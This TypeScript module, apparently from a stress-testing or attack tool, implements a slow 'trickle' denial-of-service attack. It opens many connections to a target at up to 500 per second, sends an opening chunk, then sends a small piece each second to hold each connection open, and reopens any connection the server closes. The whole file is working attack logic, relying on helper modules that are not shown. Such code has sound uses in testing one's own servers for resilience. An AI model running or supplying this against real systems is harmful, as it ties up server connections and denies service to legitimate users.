import type { Attacker } from '../attack.ts';
import { countAnswers, openSocket, untilClosed } from './open-socket.ts';
import { repeat } from './repeat.ts';

type Trickle = {
  connections: number;
  /** The first bytes of a connection. */
  begin: (client: number) => string | Buffer;
  /** What it sends each second after that. */
  piece: string;
};

/** The maximum rate of opening connections, for all together. */
const openedPerSecond = 500;

/** This many connections that send a little each second. A closed connection is opened again. */
export async function trickle(attacker: Attacker, { connections, begin, piece }: Trickle): Promise<void> {
  await repeat(attacker, { clients: connections, perSecond: openedPerSecond }, async (client) => {
    const socket = await openSocket(attacker);
    if (socket === undefined) return;
    countAnswers(attacker, socket);
    socket.write(begin(client));
    const sending = setInterval(() => socket.write(piece), 1_000);
    await untilClosed(socket);
    clearInterval(sending);
  });
}
